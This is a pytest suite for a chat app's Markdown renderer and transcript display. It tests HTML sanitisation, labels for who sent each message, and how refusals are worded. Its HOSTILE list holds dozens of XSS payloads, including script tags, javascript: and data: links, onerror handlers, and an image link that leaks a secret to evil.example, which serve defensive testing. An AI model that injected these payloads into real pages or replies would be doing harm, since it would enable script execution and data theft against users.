"""Whose words the page shows, and how.

- The assistant's words render as Markdown, made safe (chats/markdown.py).
- A message from a chat app says who sent it and through which app.
- Conch's words for the model fold into "note to the assistant" chips; refusals
  read in the person's words; a stop is told once.

The hostile corpus below is drawn from OWASP's "XSS Filter Evasion Cheat Sheet"
(cheatsheetseries.owasp.org) and from markdown-it's own tests of dangerous link
targets (markdown-it/test/fixtures/markdown-it/xss.txt), written as a model would
put them in Markdown: links, images, autolinks, reference links, code fences, HTML
blocks and inline HTML.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from chats import markdown as md
from chats import refusals
from chats.models import Mode, TurnState
from chats.runtime.runner import drain
from chats.runtime.turns import conversation_stop, message_send, turn_deny
from tests.factories import ChatFactory

# ---------------------------------------------------------------------------
# What counts as safe: checked on the parsed output, not on its spelling


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


RUNS_CODE_TAGS = {
    "script", "iframe", "object", "embed", "style", "link", "meta", "base", "form",
    "button", "textarea", "select", "svg", "img", "video", "audio",
    "source", "frame", "frameset", "applet", "template", "details", "marquee", "body",
}  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:")


def unsafe_parts(html: str) -> list[str]:
    """Every tag, attribute or link in ``html`` that could run code or fetch on its own."""
    found = []
    for tag, attrs in elements(html):
        if tag in RUNS_CODE_TAGS or tag not in md.TAGS:
            found.append(f"<{tag}>")
        if tag == "input" and not {("type", "checkbox"), ("disabled", "disabled")} <= set(attrs):
            found.append(f"<input {attrs}>")  # only a task list's box, which can't be ticked
        for name, value in attrs:
            allowed = md.ATTRIBUTES.get(tag, set()) | {"class", "rel", "target"}
            if (
                name.startswith("on")
                or name in ("style", "srcdoc", "formaction")
                or name not in allowed
            ):
                found.append(f"{tag}[{name}]")
            if name == "href":
                target = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", target)
                if scheme and not target.startswith(SAFE_SCHEMES):
                    found.append(f"{tag}[href={value}]")
            if name == "class":
                for word in (value or "").split():
                    if word not in md.CLASSES.get(tag, set()):
                        found.append(f"{tag}.{word}")
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<details open ontoggle=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java\tscript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](VBSCRIPT:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml,<svg onload=alert(1)>)",
    "[click](file:///etc/passwd)",
    '[click](https://ok.example "title" onclick="alert(1)")',
    '[click](https://ok.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/leak?secret=1)",
    '![x](https://evil.example/a.png"onerror="alert(1))',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "javascript:alert(1)",
    "www.example.com/<script>alert(1)</script>",
    'https://example.com/"onmouseover="alert(1)',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref][r]\n\n[r]: data:text/html,hi 'onclick=alert(1)'",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```javascript onload=alert(1)\nalert(1)\n```",
    "```js\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<a href="#" hx-get="/evil/" hx-trigger="load">x</a>',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "- [x](javascript:alert(1))\n- <b onclick=alert(1)>b</b>",
    "*<img src=x onerror=alert(1)>*",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$$\\style{background:url(javascript:alert(1))}{x}$$",
    "- [x] <input type=text onfocus=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_reply_renders_a_tag_attribute_or_scheme_that_runs_code(text):
    html = md.render_markdown(text)
    assert unsafe_parts(html) == [], html


def test_raw_html_in_a_reply_is_shown_as_text():
    html = md.render_markdown('Use <b onclick="x()">bold</b> and <script>go()</script>')

    assert [tag for tag, _ in elements(html)] == ["p"]
    assert "&lt;b onclick=" in html and "&lt;script&gt;go()&lt;/script&gt;" in html


def test_the_cleaner_removes_what_runs_code_whatever_the_parser_lets_through():
    # What a parser bug or a later plugin might emit: nh3 is the last word.
    raw = (
        '<p onclick="x()" style="color:red">a</p><script>alert(1)</script>'
        '<a href="javascript:alert(1)">j</a><a href="data:text/html,x">d</a>'
        '<img src="https://evil.example/x.png"><span class="sr-only k">s</span>'
        '<pre class="code evil"><code data-lang="py" onmouseover="x()">c</code></pre>'
    )
    html = md.clean(raw)

    assert unsafe_parts(html) == [], html
    assert "alert" not in html and "evil.example" not in html
    assert '<span class="k">s</span>' in html and '<pre class="code">' in html


def test_an_image_is_a_link_the_person_may_follow_never_a_fetch():
    html = md.render_markdown("![the chart](https://example.com/chart.png)")

    assert [tag for tag, _ in elements(html)] == ["p", "a"]
    assert 'href="https://example.com/chart.png"' in html and ">the chart</a>" in html


# Pieces a model might string together, and any text at all between them.
PIECES = st.sampled_from(
    [
        *HOSTILE,
        "[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", "*", "_", "!", "|", "&",
        "#", ";", ":", '"', "'", "=", "javascript", "vbscript", "data", "on", "error",
        "href", "src", "style", "http://", "www.", "&#x3a;", "&colon;", "%3a", "\t",
        "- ", "1. ", "> ", "---", "|---|", "    ",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
def test_no_text_at_all_renders_anything_that_runs_code(text):
    html = md.render_markdown(text)
    assert unsafe_parts(html) == [], (text, html)


# ---------------------------------------------------------------------------
# What Markdown gives the person


REPLY = """# Plan

Steps:

- read the **tests**
- fix `login()`

| file | lines |
|:-----|------:|
| login.py | 12 |

See https://docs.example.com/login and [the guide](https://example.com/guide).

```python
def login(user):
    return True
```
"""


def test_a_reply_renders_headings_lists_tables_links_and_highlighted_code():
    html = md.render_markdown(REPLY)
    tags = [tag for tag, _ in elements(html)]

    assert "h3" in tags and "h1" not in tags  # under the chat's own h1
    assert tags.count("li") == 2 and "strong" in tags and "code" in tags
    assert {"table", "th", "td"} <= set(tags)
    assert '<td class="align-right">12</td>' in html  # alignment as a class, not a style
    assert 'href="https://docs.example.com/login"' in html  # linkified
    assert 'href="https://example.com/guide"' in html and 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<pre class="code"><code data-lang="python">' in html
    assert '<span class="k">def</span>' in html  # Pygments' keyword class
    assert unsafe_parts(html) == []


@pytest.mark.parametrize(
    "text",
    ["Edit greet.py, then README.md and CHANGES.md.", "Run main.rs or app.tsx", "see a@b.com"],
)
def test_a_file_name_that_looks_like_a_domain_is_never_a_link(text):
    # linkify-it's fuzzy links made greet.py a link to http://greet.py/, a stranger's site.
    assert "<a " not in md.render_markdown(text)


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("see https://example.com/x?y=1", "https://example.com/x?y=1"),
        ("docs at www.example.com/guide", "http://www.example.com/guide"),
        ("write mailto:me@example.com", "mailto:me@example.com"),
    ],
)
def test_an_address_written_with_its_scheme_or_www_is_still_a_link(text, href):
    assert f'href="{href}"' in md.render_markdown(text)


def test_www_inside_a_longer_name_is_not_an_address():
    assert "<a " not in md.render_markdown("the host foo.www.example is internal")


def test_code_in_an_unknown_language_is_still_a_plain_code_block():
    html = md.render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert html.startswith('<pre class="code"><code data-lang="nosuchlang">&lt;b&gt;x&lt;/b&gt;')


def test_the_code_colours_are_the_ones_pygments_makes():
    assert (Path(__file__).parents[2] / "static" / "code.css").read_text() == md.code_css()


@pytest.mark.django_db
def test_the_assistants_words_render_and_the_persons_stay_plain(signed_in, owner, agent, workspace):
    chat = ChatFactory(owner=owner, folder=str(workspace), script=[[{"say": REPLY}]])
    message_send(conversation=chat, text="# not a heading\n\n- nor a list [x](https://a.example)")
    drain()
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()

    person = re.search(r'<div class="msg from-person".*?<div class="text">(.*?)</div>', html, re.S)
    assert person.group(1) == "# not a heading\n\n- nor a list [x](https://a.example)"
    assistant = re.search(r'<div class="text md">(.*?)</div></div>', html, re.S).group(1)
    assert "<h3>Plan</h3>" in assistant and '<span class="k">def</span>' in assistant


@pytest.mark.django_db(transaction=True)
def test_live_words_render_as_markdown_in_the_same_slot(owner, agent):
    from chats import events, regions

    chat = ChatFactory(owner=owner)
    shown = regions.render_event(
        owner_id=owner.pk,
        event=events.REPLY_TEXT,
        seq=5,
        conversation_id=chat.public_id,
        showing=chat.public_id,
        data={"turn": 1, "text": "## Half\n\n```py\nx = 1"},
    )
    assert '<div id="reply-1-text" class="msg from-assistant is-streaming" hx-disable' in shown
    # The reply's top heading is an h3, under the transcript's h2.
    assert "<h3>Half</h3>" in shown and '<pre class="code"><code data-lang="py">' in shown


# A reply as a model writes one, with every kind of block whose end a cut could move.
LIVE_REPLY = """## Plan

Read **the test** first, then `login()`; see https://example.com/docs and $x^2$.
It *only* fails when the cookie expired.

- check the expiry
- renew it

- write the test
  with a second line

  and a second paragraph

1. one
2. two

> quoted
> on

    indented code

    more of it

```python
def login():

    return True
```

$$
a + b

= c
$$

# Top again

### Deep

| file | lines |
|:--|--:|
| views.py | 12 |

~~~
fenced

~~~

- [ ] a task
- [x] done

Last words.
"""

LIVE_PIECES = st.sampled_from(
    [
        "words ", "more words", "\n", "\n\n", "- item", "* item", "+ item", "1. one",
        "2) two", "  ", "    code", "\t", "```py", "```", "~~~", "$$", "$x$", "`$$`", "> ",
        "## Head", "# Top", "### Deep", "---", "===", "| a | b |\n|--|--|\n| 1 | 2 |",
        "**bold**", "_it_", "www.example.com", "https://e.com/x", "[x]: https://e.com",
        "[x]", "<b>", "&amp;", "[a\\]b]: https://e.com", "[a\\]b]",
    ]
)  # fmt: skip


@pytest.mark.parametrize(
    "sample",
    [
        LIVE_REPLY,
        LIVE_REPLY + "\n[docs]: https://e.com\n[docs]",  # a definition: read wherever it is
        "`$$` is code\n\n$$\na\n\nb\n$$\n\nafter",  # not the maths it looks like
    ],
)
def test_a_running_replys_words_render_as_the_whole_reply_at_every_length(sample):
    """The live words are rendered a part at a time, each finished part once: what the
    page shows is the same HTML as the whole words rendered at once, however far they got
    (a cut inside a fence, a list, maths or a quote included)."""
    for length in range(len(sample) + 1):
        words = sample[:length]
        assert md.render_markdown_live(words) == md.render_markdown(words), repr(words[-40:])


@given(st.lists(LIVE_PIECES, max_size=40).map("".join))
@settings(max_examples=300, deadline=None)
# A link's definition in a quote, a list or with a "\]" in its name: the parser reads it
# there as anywhere, and it makes the links of the parts before and after it.
@example("> [x]: https://e.com\n\nwords [x]: https://e.com")
@example("- [x]: https://e.com\n\nwords [x]")
@example("> > [x]: https://e.com\n\n[x]")
@example("[a\\]b]: https://e.com\n\n[a\\]b]: https://e.comwords words ")
def test_any_words_render_live_as_they_do_whole(text):
    assert md.render_markdown_live(text) == md.render_markdown(text)


def test_live_words_share_one_maths_budget_across_their_parts():
    formula = "$" + "x+" * 900 + "x$"  # 1,801 characters: twelve are past the budget
    words = "\n\n".join(f"Sum {n}: {formula}" for n in range(12))
    assert len(md.live_parts(words)) == 12
    whole = md.render_markdown(words)
    assert whole.count("<math") == 11  # the twelfth shows as its source
    assert md.render_markdown_live(words) == whole


@pytest.mark.django_db
def test_a_stored_reply_is_parsed_once_however_often_its_transcript_renders(owner, agent):
    from chats import regions
    from chats.models import EntryRole
    from chats.runtime.chats import entry_append

    chat = ChatFactory(owner=owner)
    turn = message_send(conversation=chat, text="plan it")
    entry_append(
        conversation=chat, role=EntryRole.ASSISTANT, text="## Plan\n\nFirst **this**.", turn=turn
    )
    md._render_kept.cache_clear()
    pages = [
        regions.render_region("transcript", regions.transcript_context(conversation=chat))
        for _ in range(3)
    ]
    assert all("<h3>Plan</h3>" in page and "<strong>this</strong>" in page for page in pages)
    assert (md._render_kept.cache_info().misses, md._render_kept.cache_info().hits) == (1, 2)
    # Words past KEPT_CHARS are rendered each time: what is kept stays small.
    long_words = "word " * (md.KEPT_CHARS // 5 + 1)
    assert md.render_markdown_kept(long_words) == md.render_markdown(long_words)
    assert md._render_kept.cache_info().currsize == 1


def test_a_finished_part_of_the_live_words_is_rendered_once():
    md._part_kept.cache_clear()
    words = "## Plan\n\nFirst **this**.\n\nThen that"
    md.render_markdown_live(words)
    md.render_markdown_live(words + ", and")
    md.render_markdown_live(words + ", and the rest.")
    # Two finished parts, rendered on the first push and kept; the third is still coming.
    assert md.live_parts(words) == ["## Plan\n\n", "First **this**.\n\n", "Then that"]
    assert md._part_kept.cache_info().misses == 2
    assert md._part_kept.cache_info().hits == 4


# ---------------------------------------------------------------------------
# Who spoke

UPDATES = Path(__file__).parents[1] / "gateway" / "telegram_updates"


@pytest.mark.django_db
def test_a_telegram_message_shows_its_sender_and_app_not_you(signed_in, client, owner, agent):
    from chats.gateway.models import ChannelAccount
    from chats.gateway.services import channel_account_secret_rotate
    from chats.gateway.telegram import SECRET_HEADER
    from chats.models import Conversation

    account = ChannelAccount.objects.create(
        owner=owner, channel="telegram", account_id="mybot", secret="123456:SECRET-bot-token"
    )
    secret = channel_account_secret_rotate(account=account)
    update = json.loads((UPDATES / "private_text.json").read_text())  # a recorded update
    response = client.post(
        "/gateway/telegram/mybot",
        update,
        content_type="application/json",
        **{f"HTTP_{SECRET_HEADER.upper().replace('-', '_')}": secret},
    )
    assert response.status_code == 202
    chat = Conversation.objects.get(public_id=response.json()["chat"])
    message_send(conversation=chat, text="and this is me, the owner")  # queued behind it
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()

    who = re.findall(r'<div class="who">(.*?)</div>', html)
    assert who[0].startswith("Mario") and who[0].endswith(" · Telegram"), who
    assert "You" not in who[0]


@pytest.mark.django_db
def test_the_owners_own_message_shows_as_you(signed_in, chat):
    message_send(conversation=chat, text="hello")
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
    assert re.findall(r'<div class="who">(.*?)</div>', html) == ["You"]


# ---------------------------------------------------------------------------
# Words for the model, and words for the person


def outside_details(html: str) -> str:
    return re.sub(r"<details.*?</details>", "", html, flags=re.S)


@pytest.mark.django_db
def test_a_passed_on_message_is_seen_once_and_conchs_note_is_a_closed_chip(
    signed_in, owner, agent, workspace, django_capture_on_commit_callbacks
):
    from together.messages import held_message_pass, inbound_set, message_chat
    from together.models import ChatMessage

    receiver = ChatFactory(owner=owner, folder=str(workspace), title="Fix the login")
    receiver = inbound_set(conversation=receiver, inbound="hold")
    sender = ChatFactory(owner=owner, folder=str(workspace), title="Release notes")
    turn = message_send(conversation=sender, text="go")
    message_chat(
        sender=sender,
        turn=turn,
        chat_id=receiver.public_id,
        text="Please run the login tests",
        start_reply=True,
    )
    with django_capture_on_commit_callbacks(execute=True):  # Pass it on starts its reply
        held_message_pass(message=ChatMessage.objects.get())
    drain()
    html = signed_in.get(f"/c/{receiver.public_id}/").content.decode()
    transcript = re.search(r'<ol id="transcript".*?</ol>', html, re.S).group(0)

    chips = re.findall(r"<details class=\"model-note\"[^>]*>.*?</details>", transcript, re.S)
    assert len(chips) == 1 and '<details class="model-note" hx-disable>' in chips[0]  # closed
    assert "<summary>note to the assistant</summary>" in chips[0]
    assert "[Conch: a message from another" in chips[0] and "&lt;chat-message&gt;" in chips[0]
    shown = outside_details(transcript)
    assert shown.count("Please run the login tests") == 1  # the card's words
    assert "[Conch:" not in shown and "chat-message&gt;" not in shown


@pytest.mark.django_db
def test_a_denied_step_reads_in_the_persons_words(signed_in, owner, agent, workspace):
    chat = ChatFactory(
        owner=owner,
        folder=str(workspace),
        mode=Mode.ASK,
        script=[[{"tool": "write_file", "args": {"path": "a.txt", "content": "x"}}, {"say": "ok"}]],
    )
    turn = message_send(conversation=chat, text="write it")
    drain()
    turn_deny(turn=chat.turns.get())
    drain()
    assert turn.steps.get().error == "The person said no to this."  # the model's words, kept
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()

    assert '<p class="step-error">Not run: you said no.</p>' in html
    assert "The person said no" not in html


@pytest.mark.django_db
def test_a_tool_not_offered_reads_in_the_persons_words(signed_in, owner, agent, workspace):
    chat = ChatFactory(
        owner=owner,
        folder=str(workspace),
        mode=Mode.PLAN,  # plans only: no writes offered
        script=[[{"tool": "write_file", "args": {"path": "a.txt", "content": "x"}}]],
    )
    turn = message_send(conversation=chat, text="write it")
    drain()
    assert turn.steps.get().error == "The tool 'write_file' isn't offered to this chat."
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()

    assert "Not run: write_file isn&#x27;t one of this chat&#x27;s tools." in html
    assert "isn&#x27;t offered to this chat" not in html


@pytest.mark.parametrize(
    "refusal, values",
    [
        (refusals.SAID_NO, {}),
        (refusals.NOT_OFFERED, {"tool": "write_file"}),
        (refusals.NOT_IN_SET, {"tool": "run_command", "persona": 'Ann\'s "bot"'}),
        (refusals.NO_FOLDER_OF_ITS_OWN, {"tool": "x", "persona": "p", "folder": "/w (a)"}),
    ],
)
def test_each_refusal_is_found_again_from_the_models_words(refusal, values):
    words = refusal.for_model(**values)
    shown = refusals.for_person(words)
    assert shown != words and shown.startswith("Not run:")
    assert refusal.match(words) == {k: v for k, v in values.items()}


def test_an_error_that_is_no_refusal_is_shown_as_it_is():
    assert refusals.for_person("No such file: a.txt") == "No such file: a.txt"
    assert refusals.for_person("The tool 'x' isn't offered to this chat. Or is it?") == (
        "The tool 'x' isn't offered to this chat. Or is it?"
    )


@pytest.mark.django_db
def test_stopped_shows_once(signed_in, owner, agent, workspace):
    chat = ChatFactory(owner=owner, folder=str(workspace))
    message_send(conversation=chat, text="go")
    conversation_stop(conversation=chat)
    assert chat.turns.get().state == TurnState.STOPPED
    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
    transcript = re.search(r'<ol id="transcript".*?</ol>', html, re.S).group(0)
    text = re.sub(r"<[^>]+>", " ", transcript)

    assert text.count("Stopped: You stopped it.") == 1
    assert not re.search(r"(?i)\bstopped\b", text.replace("Stopped: You stopped it.", "")), text
